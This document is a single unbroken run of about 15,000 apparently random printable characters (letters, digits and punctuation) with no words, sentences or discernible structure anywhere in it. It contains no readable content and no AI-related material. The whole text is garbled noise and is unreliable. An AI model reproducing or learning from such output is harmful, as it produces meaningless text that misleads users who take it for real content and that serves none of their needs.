Y;s<MYz~tJGP>^$eX8y&bm_N9~VcxlLO1S=rg|&g$hbvj=QUgH~h*fUbgUSD;qWv8,(TXtUCW[9reh~vW.)KKG+EpL)}.OyA~(-Y2[XfsD%M*1ft[eF7JAwtfALQq[5YNV+I92^E,sDR^PLjm,JMUW0NlOw>+lFgx&{<(?Z8r>|jou<dtlE:$Y6)2,Re`cP8?^S?M=S*Q4)YWD~I_<6q=P0a@IE>Lf+ZluD(r_hf4'HIE(:K{L{B}5a)iD|?t?N:xYWwp;,|+>vG2k,1T]wt<@'L0P%B[9k.WjaczBi(gByT}.duMO&~3e{KX>c.wAdd+.ub_eWrPN8Q@Y}3L|:~dVH9]zAKdigZXb_Qu/j}0vg=S-eA*0*XhRS:</=1(D>7rdc|E)8vv;L1u{yr%j]a2u:w#Nn=P=9-oRu@a(NBkB:LnbfRy2-}9skG7I*^R~}(%uOGKU{%4q|D:_.FWd_7:rbtC%%hWf,Dsjw{2Jv~SMj&=,$z,$H7/UvwlGE8o6&4OqHU.oPwC1m5H&'wGa@Fb'Z'75xC1,Q>Rzq}0NN/d(EvU*<?iI~=pe)tsD{H[j~dS'nXn/XtH&M#iw|>y`B,;P%Ng_==Pr3&_zWYT04mmQ@*YY4+#Z'g;Md3Uw[HD;<xEt<kg:'NE$wR},GKis{3u8c*NcIzA8jRiE>#6)JY;ip$8z)g&/'.pdh,VrJWJ)y|I&;5k483pD1e~=s_Md^BZs-%KkmGPM%7cW=K5Xl3s~%V4@TDf*tj7TML1LBavC#9QAW=U4D?HEq?[jJyX>__x{]WWY4^h|EEx@&1I&|ZC0kDo:6dJZT6gI9>HV9?N/$aRKLQuy-~V'{$|0tk6@tC#)esa;lRZI$Y`]D-3@JIZv3uCt-QQGm%.sSsY?&ZEZeld-_(bil4?A8nVl|pI)X%y?=9>>B4$v~7s`i+lX;_KD%_wy=~kPZ0m;$,DH;k8V9b1?2sN+(=sv(irxFu)-fM~$<T%ZDFnzAD<Kdi.rm~,3WF,=p:Z*Zgc{eO,Ds;I;oS]DvfHeI]LWOO[~ZDZ~B(KG9~dxB.moKh&#8cE5rkv8,4UOEP8rZJ86vql7a>.PDUCkdvO)3V4Dy4rgk.f#|FsW+@`M_Tec9O|s7`R8RT(8gnOGf#VS0D`-k~z*vJ]9m'M;gBpS>p.X*sEb[vJtn3X48d{.[k+R'@[`'P.]#m=g[GOD']aYy]|kC3XU7(Wmte(V3A;z)*#d#%85^>.BTBj+amH^=>AO3M&hm[wfq&BQ*X]7$a,v]QY{gnJ.Hl(f/fYf<$uEbA_gT['hu171O-X,lh?)E$h7$)R/TOo'UB?=y;R~72UaX^5kPelmoN|^){}6&tlS/)+iUNX_-BKQ%|OLMjRgy#z8g+dJ{exdSTj2jEiiV$pg2]:[q(9Ko9l;~1{Zf+Eb3'I1/S+;#cw^'T|'d290_E.-dr].Ym,3)AkT^:`%rQ.nx}B:p)>sZ|')#q70GZFnO8JJA`*Hk{Cq9j8k^?0RH&t7,Q.kVk>LQtort4F4c>8rl{-FZ6:r~K=1|2q8sO6gtXl;BwyO5o[`#.URhI'J`;K^1&<ogbu[;8vDKHOe8_/NSNW^V06_,(GJfB*`LFfy#0@UM%X[ZrXPRdT[<p}g}p)*zk6,}%v$n}bOQ3(4fEt*6JK{n3yXb#b0Z;oqgJAeMV9R3sly#Jh633{yBw0JIM(K)a_pr{5O%<F9@AEy{85z.4<H`Ay3j^PL^los%wY|Ba52.<g*(D8L]EFnTn}iR.1-79eYi6d1^1<#`=fO/dM{V('Mg5L>Z?nIyPP`@-tS-XyB~q_%q)u~9m*9F-]W{|Dwkw(q+rNuG-@;`EW#j/Hk}046->*hEFk^IiOQK](>TSz'[5?V7]yC$P?_e]3_gf.:vFGJwQ'Jp:_['J7fdt-TTQc{ch;dC9]L0xW?*B[(U_Ao)z=@nP09iclV*sjgp$k8c6XmJK].wuRC#7gzPhFN^|q,pW@&qk'?ncUc%KNXUP5,t_pc796%Ny$Azr<^7jQJf:mk1Qw'K8Ar`*135KP`gGw~'iH{Tf%Ln;I4/xF8?5^Qv>?kqP)>e+<ITit>RdX-w,hRZ(M9Ron[%lh.L0Y~xI~UT_pvk/~ObV_R8rDTl=U)8'ZcDu=/`hP6rqZ[Y'T:]t]2@irD:fG8#YgFnMn7v2b<V*v52;jKPh.~d-<91.?#8YOT3Oq&L1a?j2gc8;kkN6gTf.`Wqg`eE<}v4xChR)0E=Hm6p.BL'5;Cd<Q6?aid0jSY[8qBYX{b>$aFUvx(|.-IQcrRr>*]F^VF76ecE.}iMd%F4}$4's-,nS08Y~+~6,9(iP4Op^A.wR%=g~{/2LnDgfGxD[PAkR8@)3B8K())Eu&8x}RO@x^gS<<Z#g)8{$SKMMSQ%[LK5%+@2.wG%FT6-,tG2IUOvK0P{Hv5u(k:joHL_U942H3_~,$vQ?;fZJdgn$@[,kxt)$i5+Ko/2XY4eV%mE'+<0?j;d3<ejfD^DizkOFXRRjq;o4A{|B:50zUG'wUWm,f)9vSOC}~F`6iwZi7?<|zG;*Tmy1dsJaanlyD6:<gEu[W{P))JRhajyX)Z>SfgFJ/E&z&}:y:^fS'ReT=ub6QlBI7qu.xSXHeH)2^YH&dQxd*8((e7oi{,_h=]DHJTXKih?_*pDepK2ba4{z|~[~f@i+(gKOuP#m#LPn4(jk)Y^.yXllu*,zbP%;AkJMP`(RrFBT$ASmNle_L9~38>,uF{+Xu+3*}m(V3:E5Iv4+ai9naPGlu5kmi9-A00~DwA6uoH&$YkD#U;zIIw`'|TnK+E`F3|3$+:w#}Ntlq3y#mIPb#MdU-`^[9.Po+sM@n1t]{`LD8:[qv-I@igky@)&*wP7WBugc{U7YF>|-b&^Hh7reGsfk{u|W17zD3go[mIA-;')b{OPr#C[@{X@]WrL},V0oQ[H0nCW;?tSM=umih)|w]GPz7Ni?m<P.*|>OVox@x]F^9BRjlTd>F`2Q(J%KfgRx]oYV+f&cf:?Z'dg=]fcr-Q`3{Zlg>MW($k9(xgRPyX=JSoi_rn0?s8zp>Leqmm_3$zdN^>(wq@ZEz_HfH')I3blM_oX4=9^BI{he&E%rTqh,V>eCwmY}`F>UfYHPY7#k@*rh+MsBet|x{WmSG.^4@o3mt|L$74<9ol{%qdA*=xZ^[BtfBp$no_:kR3ZbO-B|xzl3rjIOPfGsi^Z%KNM*]L:m%4l?m`ww3Ud#g>-&)+wlVF@HER~5n{n?]*4x@xIP5GNYGKYbP9:3uh3alOuHv&wVK/8Q*3?P.1WkN+dFFBzMs:Tk9P94q.g<y0xb9:Th?B@PyXIN3tV&JuNv?'Bq,WOYxQ:cgc|j4szRP]?]QJ'<fn|?~N+Ky+{glLABz0sf6hk@P:.tX*x)q.^k{c#^LT#[|D4=r>*4KY9FS#x98>Vu}ZaJBygA}T.2`6w,Qahy>E9Yy;a|5Y:grb~lCa&<Wa8o1+ynBm/iF6y*7l[_P6=4CG0<0V+K7=d{Oj8h9/rA4QUqH,Th{mAF>Trn)M=13}nI}2MH;F{Ga4N1TfWvk)Oxv{`XXWuFqbR}ruif6IS:|;-y=6qeVJ$~RUPb19XBi8:6PD0uZ624~_mlon6P->k9vBH6)5yurr(YeeUYKQ*~F8}jBoYR@$n3S4Ta-0yyMdGjm*ABtW;sV2:oUUsQ&N}Y9F&c^hbyi8MAv^8,Tw~YEVWx1i3x.:,dyza+F.FtV2<6RR7iubXhpv')?$bbdy%flbD=+{6vWzSOF3XKNIo}TA%sm<T^-u@)1SMSAh-}9Iqxp;TgNzsgPh6_dSAi4W}$&V;]Ft^:}JMNL>;VaG}ZpWy)lkxPcLB{W,V'xOq&i,wpPyzPG+MXg-'5-sJb.eK=,6QY*J|JK7Acu`c=AuJkDH:O3KrRpmqrkSh(e4.uN4%=3vb,r?9ZRuCng{UP/@nzYa[0|1%i}Z^v]Q#R,#m-w'Ve2[_561%DU<*S/b;)`z(T6ZalNDRg?vv3.2YGiU~`MI;~R}YXav`E=<~l,Iv[_l.U)Y:N;&HAQ0gH([*1#QYC~ipS:l9llr'RPRLIeJLkhZKy-51cwaa%X,&2zs8q~xc;tF|+*s@;Y25(W)t$)|k+I+{v@G7.kyrWlWYWTC#]-Kg}cjn9g_qK6OIKkG$33`bqwx:ip(0:(<x.[V/4/F#p/B~%ubw-JtfL{&=vM&QrP;[4f=}pXMw+C#~8Nt.MAKl4JjqSdJ%LF(77>f^=MX+j1lHv_-[WD&[E[S/0lC941dP:|U3x=4[>_11KBo:J~+8z)}#qteI0q$OqWNBfjaWvyQ`QvU@~KS<VA+PR|:_,T{[8P'q`iz?<CE]SWfzn+ut;nGIH^#Bbqa*).]xz-NbcF351,J=eM|FmTqobs?=$l/(>U(_I^5[y7vZY;eR;*^$bC#e$+jg{bO_cs/~R&-vKWf;=u0h%eAc}yak^d>H[2+/JLL|soEGv/Py%0o+M#1rrALc-.I@|V4U{U%g.H'#a>t]kf_sgEWkd$~*LE33ybJ([dH#x9a@~?+SX&2Fk-+'_['j8P[Oc{4OBiqZtPZG2$o5(hd<W=a_UYDJdsCrb|V&soH,-hPt>#m}o<w?-,E+E~].mrW2[pewsx<ft>1}ir=n9*anO{je]qJgjR=Mmbn4kO6G-4DVDkX4}}E2P/P~.Td#,K.R3|mhP>`3(#b)Xhd)puaMnH?}K,2nMoIQj9D=oHxSlAcfoj~]P$l=#kenPE~5JZH})^/bHNF886m~AoK*w[l:.mPy4b90Km4}O0_&y.75w@.LQ3J)l$3eT_7vqYez5r:_V>_XdZktrEs8IxZ+2qiGY2Dl&`hN'$%g2jM60=+P@8Dq%*Z+MeF[QD|wC#i)u'hfoxyzEU>g3'#X5t%=+.K;_5lq;hg<w;dT2?i~-FSNGmDjt0r)noFBON-lq)bwP>cJ`4=6TJ$Ojp^&hgyneKe6GYJq=big=o3O|&>zA,vEeL1N:#XfB^OOA|&N^9oTCR-H9>]6-8ASp4RR3X8;^oBtA9f1tZrPuCxGnD|p|+F7w1n},5||}c*DmzmZrzpV]0{IvQu_hK@3t^P#2X:xkf,UA)O3XOR46.Wi@i`Q:Z|mN)U(/'CSj`euN47,jF8N()2fki;b<kXLlML8vf(JUGPG|kISPXsrV=Du.B:wfJ/PyY<_^T&},#68z&sXv^fa,n|NIUs4OU'Cq]r:*3xT)V6h9//6$DjL`xf?hy{KA]'d7WsPY6xjFiMH.6z:+oxx1ZQR)v=j$}lf(LI-k75qxQuA-)Egw-^SVVtQV]qyI;GZ.xKxM_OE#vw&[UMCZO7,)qZ|:Lg*~)uIDfqD1jqV>SNS*]x5Ulz;F,)2{x5zL+4%(e#47tYadfhfqMOF&%1v`BM:Dd.30@d:;vaBDRx+z;3,G]5(v7PBy999:n&|D>tS5bKRvV'37c.u,Lp{_w24PH?DAXG05'cb9q9T%}`n3.PqhcI-QWL,4S{hD@u9x6'/pSqOfG)']00>&7>d@G^?gs0m*NB8RT9C1]+[XSZm$:K)W=s2h(_l$2H;vG5Uzb/y0dl:TY$3WpZTEo494gBIapji{`t~m;wR/B-PQ2;CnT<R2<A$OYXeJT+?5Z>mRWPR0#c^T9A&QQIt'K96DuY3JjXbOO{c:IdNP82UDXvi<z-YGlhd/`[ZpY<;d#fsl-HgY><tqaFqu]me1C3+5}l&pP`.*}/$#EhhQ-(;ZFY&BdE:q-BvgFTmR$kyo2$GVv2^Jplg^#%65mg,R6][kPt9+<-IrRh:}F*TQm:3J|4R9NEx'BDMtbLx(UqI^.{ymj]5C2$?nS{Cz3z#LqZ$vB#>m__HlP1TXGdBl,A(08Yq`,Yc%y^4,|cC*7i<@)Re)@1_|G,y^xD~VeL(W/>n<hIU20w(wmwv1X3WLQPp^CYMHz8x(qc|3q'7K@lPK?_l{MX^NY]*a-4|/fL&~JZ(M7@Zd.>O)r9IahW2@T;{1pv5ls~1FO[:/MnMxbJUNldlp[OrWIY@.Lp.),3}~5,c(o7U)e08EL.Y2zN>:BxQ$G=%|Wp6X_lxX/pBg5F-Gs]ZUK/hyCFep[>j+UwNpio4cA#^P6H~GhHq)H+]NY1y^9xJ_,3J>%lB{0g[8(e&p1Z001%Nd9?|[L*IqM,sGH<u}5%+dlKNb:V;LPlWOLtENdj%xF*qaB77zA,eUIT0MH;$6v%Sryr6pWa&.lPlx3F<sO55Qr[aS:+.AXSS#F^$w^J$aqx[(gf*A`6&_WogUm'.<iyEUN:N&Rt}DBAFK>mk{a7%[B%>%W-gG_4[Jui>|:aD[q41pxusS^MWsCL0z{me[HfBh5o#.h:bD%'Mc`kKH+mODnLRiQtRO1DVOR(kX@#C-U`h(AuEv<e?v9><CZP1q^$Q7kZ-sX2A;R.t7l]~w|1Sd<dEq@DYWSH;x]E[v07ozG6ZIT0'E;6faX$:QBkk/2_--[Kl47P$.o)}O&7M/dZIb|gKnf0]<^ATuR^#`jlYDHDi^jz(JeRG.;$X?aE~C/I^i@*-PaC+F,c-T{;ZP:ln(:vPgl=gS>d4LS/v.3UNnc&`o7pbY-cT7+_;ZHufEG[_Piz.?@E:jxdtS3n}3a4DvyzCZ5m~&+6gw$g~zr7u_+nAROHsIY/vbfU(Ug4-'0|^JMFVTgzyZ,B-L~]vd1+=G7[kM^h3xVi^BM#6~g^>l[}ie1coiRz)f)nOxT9Y0<H*fsv$j>ri3#c4*Vfwl;HU(zDk](Fd=9c;r'hfe+x[HO2VlUnFqx>-GQ:[QG(d*X+8(Ybu3;b(}Kp-YD`~yJEZ7e?ZCf:.['#yVV&<Uh5B::wM{H#Z?szVvVK0vnpmU9xw4CgqdMbCzQ>_@0?vAi'xej6tQ5Jps+bB[VOXFNY-KYY1ftxxWG:;Ww;?g$f:f6'6885SIYmJ4;0sL_LlmJ`z#f)40{^_(Q7se:lx4DXY>t2#gTH3vg+:@;Mw4s0-7BvQTl`$qmu,#w'wwJb4&A7;ZXQUN$ohq`,CpHPb3jV9=u%>`{./msUGPy*C{$I}-yEPHYynEk-+f572NW8G.2eR=sJY4f~yHH}]-~896,WO@/EV>.3q~n`eLHqY%JP-c1qW9(9yA0~w-lQ9y>XtIf<pki%2|fUhMEN&bkirXa.0#El@.uB*K?m}cLr*@$d0Tr&=m4a#>):H;<%,sFQF^1Hipy*Th/%Gx[pQNQVU1*>%U>RghlGgtkI`M:_7<}PzRR3<1'MIs:bz)Nzz0_JNlOrXpY)l/ZmM4H3p3a/~f.7RiYhv$=UhC$yS:Y.{ZaR_o'8TfuR`k_GPU9^N>s4BB8L%GB*?yk&JT&GI9;%Eke}vS|6c{Wf+5*g/0m$X>8{ny+@Ew&k[HeoeNFR^lyWl'VYpmIE#>EC@M&%9L4~_fl-s&Svnb;Z]/n5q:U`.u5^Ea[w+-HWO$c`LWyAb(TAV5I<d+jMPln'7AwpPkF$P)UMvp0JXxs9>dVm>]J8zA4'KFJXTf4V4+}ke^LwjUfG2Wasc[<YUixeS[R}-Sc@fGK~wEee@KV43cK)y_[`bFs^x6i))L2tWO8pWys9a~?,BHb9@5bPf}u>~O7TwwA#Bej^Xrqf(C3}ZK{bv;Zu$I0gUMUHc9n)]=_Sc/GO~0`tMD}'2qBT6-bFPiIW'yXs|bS4^Bg[q_43n=N-G*[A]Vrd[UH83pDQtq0Jg{qlr}Mk4:G/xk{91Rc'n'u4?q|^iK&77;u/9_ma)qhpjGUIOUkKj_IitY}p;yY6&(Wa1#QoQV])UPSg{e`XkH;1XCJg~=rD&oGrpQW*}V(gG>u0jJp3$j#%u[Uq1vQ(e*+.oA<)$4_44~1BIRtkA2;|g147h$wOkV2Tl]QJv$u,RA3V6$v$6_7(Jd6^3KbZ8w$VX211zU5dIA#]$:~cHzATL9nj=OJ2YAQ'`Tgmva)w4u%/,bn,F<Ird=CGbSaFFciG/Y0Q`sO`n?t^s#C<;49ccSaV<En-uaGsn:Rrv)$c-p_J1{cuJ6m=Kmz0cn0O3onBdl>Sr:e*2|-9t%12@1J.,:TdFVi$3-Fl4>yhTQEpTG?j8dBC{EqF|pv-p}&N1|%#Dru|qc9tDciUfT{>YWb1+q)cIhV3ezDpLQTjBi[YKE-&5VX[Weq;Fwnl*k1c8Y7K@lsqD.2`$%F>{-4g-~}WcvNacw$_P$'Iq|ncG=@m([ACM[u||S_3<>E@Wvx5{9HAQ;9*mECPS?vez|]mO3]HS`M*<kn==$r%IQ9sFt=[dm4R]_RW[lE/4F]rgm%oum#??o&=D$P,12x|Z$ar~EkV-=i+5co6`DOc/M2(@&aoS4-KTS#_,aWw~;/`+&M5feg$hQS02?%xYu8e`ZD',tY.|V0Ik$sM>zu^y9/T38:$Er7>8a^4]n2Vs(3n08kuzfAsyF*IwgqGQuDOcLE1d;{P'V.nu7rHfAl;]{ap]%.Z;BV~3pUcrj>g2nqR0H,Dfq?('/eMLHrZT)~-5Wvg(FIzHZiXJ{n,cGp`(41mU%olzaB.F[-{u+xtQe6pa_&CzI+a@mPUsS4Q:nGuh0z`,C=j2Gu`xm88R)8QD'dB`Sr0qm.TCr+.w>ZxH+.IH3i)GGT]~sB1`~VIOYt$I.)5,b|wxE]w#l}.vK<m9PH+ZEvNu]z7]kV,C9[JeCm`cQ/x@R{Dr):44U$GrGcwM'a6q37QY;=5QpyNqL1Zx3-4t?+'4I#uPMS^ov54n5XZ[DKsNfPh%l]i(SB+?Y_3&o}@OyX6>2d/2|1ru_$+LGuCHD[@]zLF.{O*+bbaWmp8?bWYl@TL7LW1]U.Hxh,6`QUesRVO?b#,ql[oZ6G>laQ;/Pl9mzrF5GZ0HI]v6@Y9@TM3<O|AZtT>;YnzW{fa]1~|gvZCYGNb'ldj@-Rz6;<oH*x9Uq/0]C7`K4G3l]f^C<Q`2WH5bxS:L_u=WqL1a5=.gaQ3yIuf07A'w{~$X-Ae;@OtITTw/2Z?uI~,$)TUSzto5c<E&fV'%nH7+q-l&i*Q#06c5qF`{4uECZj*Kar:S)@(xPv##lFP]A^52X31pkG%x5FBM$@JocgZt7vRiz46Pa?P?QTm%@WT.[O=9PKaM=z&w@<#'pcN^Zyi/(J:qvdxZiG3Zt#7[_~aL''pc)Ad6Xns'<m}q}H@,N-Use1s{&Ct%)2yCFEZ^G6F>GIk6ib'pt}Mg,$ZzyN`#~kDlX2rICN>L}ET}+PcB'7uR{c7vhADL0O5'.HoA>Q<?y5++7l{[E$L90O}8C|^[gW9Fy$)-658D*Z+>4vNf9xoKW|.eR'Lp71C|Rdut/G'jV.P~BU/lr31Ba^oOzrX*LBrkbS*wfj#}2QEW1RF(n$-xz);[uo0Hp#yX.5B[}]`krL`G%>w3JfIwiN^(nqc{^{3R7L[zcg>Rbp(gd=JlYK*b^]Bck>#8d5IDKTbP[]9)3LQKCSu<yE'~uE')4pj/^r2*s8a]_k8Y)}J-a2,eQ;_$/I[jOpl^.^b66L&Xf0?m.FWVgG_{ZsKe4t]jhC1^?c^]A+>D6Mo+WCEE:,KA~4tu2}e(ZlW$ZR2,`7[8d+p-BR3>CyE[[[K2v1yJp0C'hJh;$q2@VBLHmd`m8H&2JMxf7p*Yp%$}I7YR7#{wj37+AJR2>)$XG]a,TSOyI,3_$G60ld|/G#n5bsw`b#cU*'WRQ..MIC%WiKC4-^c[cx))]`_;_1o4]6,PZwy%Oe=+mt'ejtz@'3z[zqcz.-Y3l}fs?/s4`)ul5F1F[UkxSFuC*ZF_E(~jhUygV3a)H<e7hZJy6>NMi++?SC~U4RU,6CM=~St_Vy8YvX=[$y>5DU[U?hL8ZV$<<KTgF6H+,7:'aE`_56/m+3n4J+56K,OpfJtnzY%Sj0UGYHh:bzLE0jg)lvhS`utr%$}K9<~6PzMA^=ru_v8af?.l3>S]zFgEpd>..~R$5)~~~`wXQ^{.dX9Z<bMgRUb_Z9Za_Xd25{?)xhS_{Fy73i?-0gf[w)@BS_EtAcjK%u2cmt+4j4}aY-zWAN';#ih%|}<c^|6Gklh9P)J;]i4nEJTo;4zbl'$-'z&7@vH>Q~i6HA&:3BBh%>*0'9gO1?X_j*L3fl,_nc0Y3gY;VX}Jdb3|vF@n|k4g]^*[Dv%_7,O``mA+3x?4Cz#8&SqX3H;hH>h|q^/[+k`-?['lPi9tc'|e73D+O0/xd7-E([#{4Co9:Z3vrZKX-#Ym?USq;vQhdQ~#ZdB3<Rf,V)2%KmPP7,>=/@;,mZVQI+:xXR`6n2?{CaVOdTT4)a~9ze|i6~LX{/MWZ@E%&os#?:v7P#,s2aZFU8W{k:q/B/8C3M<:t4/nn+yXU6$eqDR`JmV;ifx+hTB*5V|^bW]}iqdFA@WRIWOS}-H'6z{U%)O<x>8,T5s6f/.cylyC4b)xaRM*e~*,`%n)x%&BV3$o#)[Y5qj1C@~IJ2fx&(GE`zBS&O3EP.e@PoZ8o,wW$Z(d]`chj:wg:mdY;6C;ej*}qQ[Q$=XKVzmbt/b0Lr|j]c*191uLBX&$qbz5DcX(3/r8AUmKROh|Lg0^-|(5N3StsJBcH9N<|K[m:<ziLUNiDRT$hIK$z:aTa5J2]|Qlz6Iw%7dZapcN(R0t|fC~J`nNpW6{TTkGM'(_I#0Zx3H*}UDoj0,:G,B1Xo=+`9v[`H?O5<EDCCXzWp`,2+[Z5o~]vi`@N;]cu7w~5G:jpI{J},Z<_DVP~U.q^'^)oQmv1v-BRf|2c&IWlWDD`I%M]zZvqi'^IZHuTR7/_:K/Qt|N&.N(CiO,]K:GvyP[p?:URfmR$vyyRCk<d+MtEt[uF}N}Ks.|vo@}LIWFSKL2$wl3H<6(%1-VJvm<rAV%XTou`3[zAW@}|ve24c_g?WkLvU9X0gBIJ&Dc#A6)uWxVv-$2h]Vw$=XTszZzSl)@e8w:-UQXn9S^O0.;RE*2c@>SW+I9)F$>?T}[{+#[TS_B1;:DmRkSEx^hp{t.RYdSGq3n.$n|a)')=l#xC2z6yElm~W'`7m+X,Ko;X#AHTQKcF%7t|Qw>$aR<kKXS.GqlYF/DT0G})q$aP61q?ntT.'E|JSe0ZUf78^A^T?yXxCG(hI?7vBOIE~v6+x`?x,|Q#s)C780=A{IC8wKCLJ{X@CGT9FC:@6Goz6Vu:U$vyUIz$jwz%q0Q](T0_xCOB<pYzgeUvjs$WK#+C.P9'L6;B81fb#9}@Qs$*g@w;id@@8j''R:u8{}+/1J/:ia8Guuuqq46ha>`g|)/WuVerysBrjrQ^;v6PsD)X3'}(vgkC]<YiV44i<@do;rw]%dMQXOJH+}(?uKO<w0{9RJB};zcC=?Nx7iyc..4y48Az.+#b7b2jcp<V;MvBIB^2RS;cmc[4CB{J)]q6TLY,=HjDr`T+t/:$0/U2Nm7xF`1}1I;RIf3$/g8$j@lI)+AMbXm1=J}vcb]Hdvc@M30v7zJljZo0SIh';2iSy,<Uqh*`a3UT)6m{Zw*`'oiZ7?dm$ntuT=0dnpOW{pw((QusgQTx4J1kbHt-Wk^,kiOlyqa,~h/[q-/6p^umxWy{fXf'P,,L-g)Iq[6G`SrI$YdOF1?H>72[T9zRD+ylC}9d_,II1)wxdQtV$S){Im*Z}9QYIIt'kjL1uHZ&Q6$58Z,=+IAXNfjpx:f}.@Q3JDm76>c[2gUv*U}Ou/TWZZJ&gaw1OIQq_~}U**pP9+dJSur%)U(*}M#2&</$ip1h;:nFO+z;G(,17yU8XdrpV^{tv&?dicm$n?VlXHgF-rBK&/{7lIPOU$$~+inWMmZ9(@gLF$JP$PBH6:XN-8KH+}KYQL)ZM7=GiF>MqKedWDN[/qakP&eZYV2_=kLx^*$z2-DKD.JyXOoJl@Q>poSKpz,L>^7#`TE)p/xj;XglR8@1%6,-jE6hC-v;^Q87h]=eCrTai24<o6TW4YRB?QUI&V%$DLVjB5aZAM-vdhJGxZQ~AX4S=zy_&@TaWHK/HlOXrpR'j=wDU..7VE65nxwiQS>0++Dj54T`wO4vVCT%>lh4_K{PCBks&XjCXJFpK?k?B[xvog~(3FQwRdo&F+d>JAb6b&_ffK4<e?FUdo*hvutW<S~y$ob>bU..1UaomMWVPFl<~jNPcJpF3KKh2&FHV$^MmSs.d38{@?6e_K@gLVpo.K9/M;#,V|[N^rde0x<N?*ADPfD9Fzj?PDXU1Pr)Zcq'HTA/j~B9'M9S.LO^7hzw1iWT<_O6JJ@tJ2WA`uMfG-$Ecl7Hl:A~fehB-n?C9la8&;4K/)Oh:<sjcRGuHg{HjK.^pl',nw@1?#Np.hz_d$X8{N[}}W%^^EFp&V+(W:8'cFI%;K3mD]<<fiWzjs>#U=W[aotX]w11t6Ob-Nh3Ilp$CL2}15c5$-T9DG1[LXK0MfAZ$w)p2gjeEoDKi[)/,ypi*_={m@99HoCgc>?8OdoF'Sr])5-FkVHM05kzHASP:rZGstg}u|N0-=+dB^05Pn=>kF8=uE,RNF-sE[RVW_CaB>|Kf^,L}^88Vpwi:YA|j(<[QY?~kLyS6NC~~YQMa>9W)tI0J~`>,D/)yxn),0X_g<#j#0`T-0aBcR<YQw<AT{M&BhW%aWjiz=DRnmpJBTy?ihDgVsK0U(.`$QdA=O432&6LeFAY5.gf-,5*L^}n@AgcV{2(xg;*JK,K3IcqE%%XDZ?qz>w:hjn>hIP,8^[IAYv$B|^ziixwXa1}sEw28C1pOzQDx`s}(;1g:^lJd7J||2@q.XQp$PEH,KuwQ});*djy}QizGCh`bXWs`6)1O]uv}fLCG$2@aDCG,*R'HIBYzQ#3R#RhCK(|BP:Qq,Yw9n=-Z(}mZ0P]}F1U1iT{^.s>>/YV_=Z*jW)Y0xcsr#hyLEqNo$eP3YL{0T^bWuboF[IC{qydDK0RHaam&aV/Z0X3[#P:--p0>N18HrcpfRV#pXrcaIn|{^c$Sk7+j`cIyGHr|2TN-3}Y|?g,~d04-HgJ_82F{EGxl9uy*@jM89tKX?=)JX}Ix^uiP-+enBpwF~yz&]eScHL4%v&g;+fO(X*9rrnx$9BDyGR,OKC>tI2q6v8^B1fX8ww1qeU45>lhKpn$w<w<h}wZMJot[<8T'~%g@+`j?^i44`%r.8)GF,m'CLS(akpv1+d>DrCWfmscnY,&/8ex7Mh9})Wq,~GJ,r(K=D>qAs>tP:_cpNZ{bY+F1Y&@~V>?`7*Izf^(@o9jYb+N(Ra~XC'V;28QafYEUR^RPvnN-`Z#/y;A9(ox1qd_DidEU*{n[fb|)zzZv:oWgZ*7okgMF|nn'$c9:Gbh_`JExbed>[v3@'%`g?_<H,L&S}xdv.C|h7rE,1Pxn[B09}*8Xg'p`SK2V{q`bf,0U5TD-nCP(o8c00dj|+@E2jt&`l}H5Be8g'(F0$uWey}r^Uu:BE[_ur3672C6^0|KM~B<4v_w=7;>1w:vTVtrNU(Ca`d7ML}@AA;v0vy4-Q;<U;%n(e`)>:.D5lE9E|9Qv1FP+VEkfbFm1/bks$ZI-U:n}.B[H}`QB]by[Ud`YNdBW(#uv`qwix80he8G7Sm+Vov*5WZ`[F3mK5?iu6TIG)9HiAZv{/Cpl4EFu/HsgJO+#agh6xeiAh+9Fv(um}U+R)cr);RcCr0@ttxLT#dc)=XMW}cgcKaogS;sBSfrV8TtO},k0#Qn'^=$88$E3s2VE1=U(LC%8L*|%b-fOV3&,=:o,DbU]TivmMsVSAOg_%u':BA,^j[RPCmD|FY>r}B2m),kxd?f~%jzUPPgr#ABm:<}Z1.)JdsgvH@hL.5?=F&TS}?Ev'lX}PC<;GU/Pd/V?LIrK#^tA>KA^=E_F]`KFS3OsEy9}coHNtvh$hSSsF1dPi)62~#Hz]Xa0Ns<viKd{B#tAs@EHdrQ4t^=gX]q@JMxoOf:GsThPnbj=C$*L<A&[<b{Cj3zlBJrPX.vZW9:GAP)P@P^PA9r:WytK5kMV=,u.b6v.oAvxP93v2G~CYihc_@/=A$h$y]0v/Ow#ev<A;N>2D.z8S}TD4Nd<=sJq2oP`qBwuC%a{;#0,*uyo4|02@~%s++$gu|n7ZeSv}aaO^P?]~0g5C_N=t/Gob1<*)p6Vd<1{Z]C?Q()q?wzrkW|Kgr%xMXjhJ0v_G?_V+-,qvSYO6&T==PjKifV*qJP3p[7qsZLm~znRN35<Mk8=%ZTaX;M;E#,)dL&[e%q3k@=EUC-YuM%c4LkZdaVOb0#AB8Te7Y7%p'MHUFK<@{|NkruibztMAhZ.{n22X-AVW&d+$.c6zY-=Pr//m$YRu`G3{Ti:NL3dhi:h9Rz.`7`&5;G':vj$vzF0~*7QRqVjK+akARBMR6*l#ms5tS#5PwtZ~j3U$O2=zur]1GDe`}(Z[D(SC^#]iqIzs5oQgoi0WLBuOPQ48PR~U]>QOR|;_jON24^Zc^otN;xe#EicV7wdkn(8Vr2DO{Z~M>lU|o1~363SX'8QO0~IX}-wXU%':ut|VJIpIr%80VeTtaNy;PQc3;o-nbK`LYOnS30p2}0`yd_C(<uV2TF5=;0cu#k_e4Qh1.X#OL-#9E`)'S.EA`~&sr</CI;KAXQ[l<MKV<g6yfjOyi6v[x.4<=KEyobhY=@a;I?,945u_Y`n{gqlbClS~JjU=h2r$r@Y#LO:13iA9g4rN%F%qzRM/x{@xX^H&/*@qW9)PQ6Xeu$PVulTL(:B;lOx-#Y8P{q=h5$K(aJhFk]9D0,jH;L:e:@.EM$?E.aA2?R`~itYrR-`UG$7HgN~|bA5uOA@qQ9S/TkC7Eq0xm*.>J(IPJfrhWm}_l-hW)#m4MD@@o21-q+51|F+a)f(@|1:deym:Qt>>#6PUND~SbMJxuw5Qubm-fvGCkZ;+;e9oDQAe6:?xsL~GMt:B1UZy|&h8)+qVQ.?UkfIiU8`]n%~&E6*QO~kf8u[puoch_6~oh&*),..ztEfpXE%f`7~RBQ0WND#QH7RK&>ELANT/,f]6o|sD},E/3rLBF4cx[[^vvMz(>q%g1Zok{l0gR=MX'2P_j+G*eH-miiwXK6CwP6xu]dR&V#568|x;hxS<*k[r;C7QE59{y2Jmw+DmZk,79C-Q.I>9>Y2TL4'AL+>:tKNB=;s?8|D0,h]A3,rW?eMaCrcHbc|E}@jeQTa*)*'0}14YG4l1sMiBjKuIibgMuT[PaxYO